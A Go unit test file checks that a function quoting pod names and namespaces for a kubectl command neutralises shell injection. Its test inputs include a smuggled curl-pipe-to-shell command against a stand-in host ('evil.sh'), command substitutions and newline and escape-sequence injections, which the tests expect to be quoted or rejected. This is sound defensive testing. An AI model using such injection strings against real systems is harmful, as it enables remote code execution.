package shell

import "testing"

func TestKubectl(t *testing.T) {
	cases := []struct {
		name  string
		words []string
		want  string
	}{
		{"plain names stay plain", []string{"redis-7f9c-a", "demo"}, "kubectl delete pod redis-7f9c-a -n demo"},
		{"a shell's words", []string{"x; curl evil.sh|sh #", "demo"}, "kubectl delete pod 'x; curl evil.sh|sh #' -n demo"},
		{"a substitution", []string{"$(id)", "`id`"}, "kubectl delete pod '$(id)' -n '`id`'"},
		{"a quote", []string{"it's", "demo"}, `kubectl delete pod 'it'\''s' -n demo`},
		{"a path of zsh", []string{"=ls", "~root"}, "kubectl delete pod '=ls' -n '~root'"},
		{"an option", []string{"--all", "demo"}, ""},
		{"nothing", []string{"", "demo"}, ""},
		{"a line of its own", []string{"x\nid", "demo"}, ""},
		{"an escape", []string{"x\x1b[2J", "demo"}, ""},
	}
	for _, tc := range cases {
		if got := Kubectl("delete pod %s -n %s", tc.words...); got != tc.want {
			t.Errorf("%s: %s, want %s", tc.name, got, tc.want)
		}
	}
}

func TestAdvice(t *testing.T) {
	if got := Advice("remove it", "kubectl delete pod x"); got != "remove it: kubectl delete pod x" {
		t.Error(got)
	}
	if got := Advice("remove it", ""); got != "remove it" {
		t.Error(got)
	}
}
